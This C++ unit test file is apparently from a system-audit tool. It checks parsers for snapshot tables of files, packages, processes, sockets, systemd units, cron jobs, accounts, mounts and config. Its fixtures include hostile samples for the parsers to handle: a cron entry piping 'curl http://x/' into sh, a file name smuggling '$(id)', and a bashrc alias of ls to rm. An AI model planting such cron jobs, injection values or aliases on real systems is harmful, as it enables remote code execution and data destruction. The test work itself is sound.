#include "harness/snapshot/tables.h"

#include <gmock/gmock.h>

#include <limits>

#include "harness/base/file.h"
#include "tests/paths.h"
#include "tests/unit/gap_texts.h"

namespace skillaudit {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::SizeIs;

/// The tables in data/ are as a guest prints them, with what a hostile one may add.
std::string table(const std::string& name) {
  return read_file(std::filesystem::path(SKILLAUDIT_TEST_DATA) / name);
}

template <typename Row>
const Row* find_row(const std::vector<Row>& rows, const auto& matches) {
  const auto it = std::find_if(rows.begin(), rows.end(), matches);
  return it == rows.end() ? nullptr : &*it;
}

const FileEntry* file(const std::vector<FileEntry>& rows, std::string_view path) {
  return find_row(rows, [&](const FileEntry& f) { return f.path == path; });
}

TEST(Files, AreSortedAndUniqueByPath) {
  const auto files = parse_files(table("files"));
  EXPECT_THAT(files.gaps, IsEmpty());
  ASSERT_THAT(files.rows, SizeIs(10));
  for (std::size_t i = 1; i < files.rows.size(); ++i) {
    EXPECT_LT(files.rows[i - 1].path, files.rows[i].path);
  }
}

TEST(Files, KeepAnyByteInNamesAndTargets) {
  const auto files = parse_files(table("files"));
  EXPECT_TRUE(file(files.rows, "/home/u/two\nlines '\"$(id)"));
  EXPECT_TRUE(file(files.rows, "/home/u/\xff\xfe"));
  EXPECT_TRUE(file(files.rows, "/usr/bin/ su"));
  ASSERT_TRUE(file(files.rows, "/home/u/link"));
  EXPECT_EQ(file(files.rows, "/home/u/link")->link_target, "a b\nc \xff");
}

TEST(Files, KeepTypeModeOwnerSizeAndTimes) {
  const auto files = parse_files(table("files"));
  const FileEntry expected{
      "/home/u/two\nlines '\"$(id)", FileType::Regular,    0644, 1000, 1000, 12,
      1700000001'123456789,          1700000002'500000000, {}};
  ASSERT_TRUE(file(files.rows, expected.path));
  EXPECT_EQ(*file(files.rows, expected.path), expected);
  EXPECT_EQ(file(files.rows, "/usr/bin/ su")->mode, 04755U);
  EXPECT_EQ(file(files.rows, "/fifo")->type, FileType::Fifo);
  EXPECT_EQ(file(files.rows, "/sock")->type, FileType::Socket);
}

TEST(Files, TakeTheNearestTimeThatNanosecondsHold) {
  const auto files = parse_files(table("files"));
  EXPECT_EQ(file(files.rows, "/far")->mtime_ns, std::numeric_limits<std::int64_t>::max());
  EXPECT_EQ(file(files.rows, "/far")->ctime_ns, -5'000'000'000);
}

TEST(Files, NameWhatIsMalformed) {
  using std::string_literals::operator""s;
  const auto bad_mode = parse_files("f 9 0 0 1 1.0 1.0 /a\0\0f 644 0 0 1 1.0 1.0 /b\0\0"s);
  EXPECT_THAT(bad_mode.rows, SizeIs(1));
  EXPECT_THAT(texts_of(bad_mode.gaps),
              ElementsAre(HasSubstr("1 row of the guest's table 'files'")));
  EXPECT_THAT(parse_files("f 644 0 0 1 1.0 1.0 relative\0\0"s).gaps, SizeIs(1));
  EXPECT_THAT(parse_files("f 644 0 0 1 1.0 1.0 /cut-off\0"s).gaps, SizeIs(1));
  EXPECT_THAT(parse_files("f 644 -1 0 1 1.0 1.0 /a\0\0"s).gaps, SizeIs(1));
  EXPECT_THAT(parse_files("f 644 0 0 18446744073709551616 1.0 1.0 /a\0\0"s).gaps, SizeIs(1));
}

TEST(Dpkg, ListsWhatIsInstalledWithForeignArchitecturesNamed) {
  const auto packages = parse_dpkg(table("packages"));
  EXPECT_THAT(packages.gaps, IsEmpty());
  EXPECT_THAT(packages.rows, ElementsAre(Package{"dpkg", "adduser", "3.134", ""},
                                         Package{"dpkg", "broken", "2.0", ""},
                                         Package{"dpkg", "jq", "1.6-2.1+deb12u1", ""},
                                         Package{"dpkg", "libc6", "2.36-9+deb12u9", ""},
                                         Package{"dpkg", "libc6:i386", "2.36-9+deb12u9", ""}));
}

TEST(Dpkg, RejectsStatesThatDpkgDoesNotHave) {
  EXPECT_THAT(parse_dpkg("perfect\tjq\tamd64\t1\n").gaps, SizeIs(1));
  EXPECT_THAT(parse_dpkg("installed\tjq\n").gaps, SizeIs(1));
}

TEST(Pip, BelievesTheMetadataAndElseTheFolder) {
  const auto packages = parse_pip(table("pip"));
  EXPECT_THAT(packages.gaps, IsEmpty());
  const std::string user = "/home/u/.local/lib/python3.11/site-packages";
  EXPECT_THAT(packages.rows,
              ElementsAre(Package{"pip", "Jinja2", "3.1.2", "/usr/lib/python3/dist-packages"},
                          Package{"pip", "bare", "", user}, Package{"pip", "evil\n", "1.0", user}));
}

TEST(Npm, TakesOnlyTheVersionFromAManifest) {
  const auto packages = parse_npm(table("npm"));
  EXPECT_THAT(packages.gaps, IsEmpty());
  const std::string place = "/usr/local/lib/node_modules";
  EXPECT_THAT(packages.rows, ElementsAre(Package{"npm", "@scope/tool", "4.5.6", place},
                                         Package{"npm", "broken", "", place},
                                         Package{"npm", "number", "", place}));
}

TEST(Processes, LeaveOutWhatTheCaptureStartedByDescentNotByName) {
  const auto processes = parse_processes(table("processes"));
  EXPECT_THAT(processes.gaps, IsEmpty());
  std::vector<std::int64_t> pids;
  for (const auto& process : processes.rows) pids.push_back(process.pid);
  EXPECT_THAT(pids, ElementsAre(1, 2, 400, 700, 701, 800, 801, 899));
}

TEST(Processes, MarkTheAuditsOwnSessionButNotTheSshDaemon) {
  for (const auto& process : parse_processes(table("processes")).rows) {
    EXPECT_EQ(process.of_capture, process.pid >= 800) << process.pid;
  }
}

TEST(Processes, KeepHostileNamesAndArguments) {
  const auto processes = parse_processes(table("processes"));
  const auto* daemon = find_row(processes.rows, [](const auto& p) { return p.pid == 700; });
  ASSERT_TRUE(daemon);
  EXPECT_EQ(daemon->path, "/home/u/find");
  EXPECT_THAT(daemon->command_line, ElementsAre("find", "", "--every\n\"day\""));
  const auto* odd = find_row(processes.rows, [](const auto& p) { return p.pid == 701; });
  ASSERT_TRUE(odd);
  EXPECT_EQ(odd->name, "a) S 1 (b");
  EXPECT_EQ(odd->path, "/tmp/\xff (deleted)");
}

TEST(Processes, OfAWitnessThatWaitedAreToldFromTheSession) {
  using std::string_literals::operator""s;
  const auto processes = parse_processes(
      "50 61\0"
      "40 1 0 1 0\0sshd\0\0"
      "50 1 0 1 0\0witness\0\0"
      "51 50 0 1 0\0witness\0\0"
      "60 40 0 1 0\0sshd\0\0"
      "61 60 1000 1 0\0sshd\0\0"
      "62 61 1000 1 0\0skill\0\0"s);
  EXPECT_THAT(processes.gaps, IsEmpty());
  std::vector<std::int64_t> of_capture;
  for (const auto& process : processes.rows)
    if (process.of_capture) of_capture.push_back(process.pid);
  EXPECT_THAT(processes.rows, SizeIs(4));
  EXPECT_THAT(of_capture, ElementsAre(60, 61));
}

TEST(Processes, SurviveATableInWhichParentsGoInACircle) {
  using std::string_literals::operator""s;
  const auto processes = parse_processes(
      "9 7\0"
      "7 8 0 1 0\0a\0\0"
      "8 7 0 1 0\0b\0\0"
      "9 8 0 1 0\0c\0\0"s);
  EXPECT_THAT(processes.rows, SizeIs(2));
}

TEST(Processes, AreAGapWhenCutOffOrWithoutTheCapturesPid) {
  using std::string_literals::operator""s;
  EXPECT_THAT(parse_processes("").gaps, SizeIs(1));
  EXPECT_THAT(parse_processes("9\0"s).gaps, SizeIs(1));
  EXPECT_THAT(parse_processes("9 0\0"
                              "7 1 0 1 3\0a\0\0x\0"s)
                  .gaps,
              SizeIs(1));
}

TEST(Sockets, AreReadFromTheKernelsTables) {
  const auto sockets = parse_sockets(table("sockets"));
  EXPECT_THAT(sockets.gaps, IsEmpty());
  const auto inet = [](std::string p, std::string state, std::string la, std::uint16_t lp,
                       std::string ra, std::uint16_t rp, std::string process) {
    return SocketEntry{p, state, la, lp, ra, rp, "", process};
  };
  const auto local = [](std::string path, std::string process) {
    return SocketEntry{"unix", "LISTEN", "", 0, "", 0, path, process};
  };
  EXPECT_THAT(sockets.rows,
              ElementsAre(inet("tcp", "LISTEN", "127.0.0.1", 8080, "0.0.0.0", 0, "fi[nd][700]"),
                          inet("tcp", "ESTABLISHED", "10.0.2.15", 22, "10.0.2.2", 40000, ""),
                          inet("tcp6", "LISTEN", "::1", 22, "::", 0, ""),
                          inet("udp", "UNCONN", "0.0.0.0", 68, "0.0.0.0", 0, ""),
                          local("/run/user/1000/bus", "systemd[1]"), local("/tmp/two\nlines", ""),
                          local("@abstract name", "")));
}

TEST(Sockets, AreAGapWhenTheKernelsTablesAreNot) {
  EXPECT_THAT(parse_sockets("tcp").gaps, SizeIs(1));
  std::string raw = table("sockets");
  raw.replace(raw.find("0100007F:1F90"), 13, "0100007F 1F90");
  EXPECT_THAT(parse_sockets(raw).gaps, SizeIs(1));
}

TEST(Units, AreThoseThatEachManagerHasLoaded) {
  const auto units = parse_units(table("units"));
  EXPECT_THAT(units.gaps, IsEmpty());
  EXPECT_THAT(units.rows,
              ElementsAre(Unit{"system", "bad.service", "loaded", "failed", "failed", ""},
                          Unit{"system", "cron.timer", "loaded", "active", "waiting", ""},
                          Unit{"system", "gone.service", "not-found", "inactive", "dead", ""},
                          Unit{"system", "ssh.service", "loaded", "active", "running", ""},
                          Unit{"user:1000", "all.service", "loaded", "inactive", "dead", ""},
                          Unit{"user:1000", "mine.service", "loaded", "active", "running", ""}));
}

TEST(Units, AreAGapWhenTheirRowsAreMalformed) {
  using std::string_literals::operator""s;
  EXPECT_THAT(parse_units("system\0Failed to connect to bus\n\0"s).gaps, SizeIs(1));
  EXPECT_THAT(parse_units("system\0ssh.service loaded active running"s).gaps, SizeIs(1));
}

TEST(UnitFiles, SayWhatStartsByItself) {
  const auto files = parse_unit_files(table("unit_files"));
  EXPECT_THAT(files.gaps, IsEmpty());
  EXPECT_THAT(files.rows,
              ElementsAre(Unit{"system", "bad.service", "", "inactive", "dead", "disabled"},
                          Unit{"system", "idle@.service", "", "inactive", "dead", "static"},
                          Unit{"system", "ssh.service", "", "inactive", "dead", "enabled"},
                          Unit{"user:*", "all.service", "", "inactive", "dead", "enabled"},
                          Unit{"user:u", "mine.service", "", "inactive", "dead", "disabled"},
                          Unit{"user:u", "sleeper.timer", "", "inactive", "dead", "enabled"}));
  EXPECT_THAT(parse_unit_files("system").gaps, SizeIs(1));
}

TEST(Cron, ListsJobsOfEveryKindOfFile) {
  const auto cron = parse_cron(table("cron"));
  EXPECT_THAT(cron.gaps, IsEmpty());
  EXPECT_THAT(
      cron.rows,
      ElementsAre(
          CronEntry{"/etc/crontab", "root",
                    "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly"},
          CronEntry{"/etc/crontab", "daemon", "@reboot daemon /usr/bin/x=1"},
          CronEntry{"/etc/cron.d/evil", "root", "* * * * * root A=1 curl http://x/ | sh"},
          CronEntry{"/var/spool/cron/crontabs/u", "u", "* * * * * ~/bin/beat \"\xff\""},
          CronEntry{"/etc/cron.daily/logrotate", "root", "logrotate"},
          CronEntry{"/etc/anacrontab", "root", "1\t5\tcron.daily\trun-parts /etc/cron.daily"},
          CronEntry{"/var/spool/cron/atjobs/a00001", "1000", "a00001"}));
}

TEST(Accounts, AreParsedAndMalformedLinesNamed) {
  const auto users = parse_users(table("users"));
  EXPECT_THAT(users.rows, ElementsAre(User{"root", 0, 0, "/root", "/bin/bash"},
                                      User{"u", 1000, 1000, "/home/u", "/bin/sh"}));
  EXPECT_THAT(texts_of(users.gaps), ElementsAre(HasSubstr("broken")));
  const auto groups = parse_groups(table("groups"));
  EXPECT_THAT(groups.rows, ElementsAre(Group{"root", 0, {}}, Group{"sudo", 27, {"alice", "u"}}));
  EXPECT_THAT(texts_of(groups.gaps), ElementsAre(HasSubstr("nocolons")));
}

TEST(Kernel, ModulesAreSorted) {
  EXPECT_THAT(parse_kernel_modules(table("kernel_modules")).rows,
              ElementsAre("ext4", "virtio_rng"));
}

TEST(Kernel, MountPointsHoldAnyByte) {
  const auto mounts = parse_mounts(table("mounts"));
  EXPECT_THAT(mounts.rows,
              ElementsAre(Mount{"/dev/vda", "/", "ext4", "rw,relatime", "/"},
                          Mount{"tmpfs", "/mnt/two words\nline\\", "tmpfs", "rw,nosuid", "/"}));
  EXPECT_THAT(texts_of(mounts.gaps), ElementsAre(HasSubstr("nonsense")));
}

TEST(Config, IsSortedAndKeepsEveryByte) {
  using std::string_literals::operator""s;
  const auto config = parse_config(table("config"));
  EXPECT_THAT(config.gaps, IsEmpty());
  EXPECT_THAT(config.rows, ElementsAre(ConfigText{"/etc/cron.d/two\nlines", "x"},
                                       ConfigText{"/etc/environment", ""},
                                       ConfigText{"/home/u/.bashrc", "alias ls=\"rm\"\n\0\xff"s}));
}

TEST(Config, IsAGapWhenALengthIsALie) {
  using std::string_literals::operator""s;
  EXPECT_THAT(parse_config("/etc/a\0"
                           "99\0short"s)
                  .gaps,
              SizeIs(1));
  EXPECT_THAT(parse_config("/etc/a\0"
                           "-1\0"s)
                  .gaps,
              SizeIs(1));
  EXPECT_THAT(parse_config("/etc/a\0"
                           "18446744073709551615\0x"s)
                  .gaps,
              SizeIs(1));
}

}  // namespace
}  // namespace skillaudit
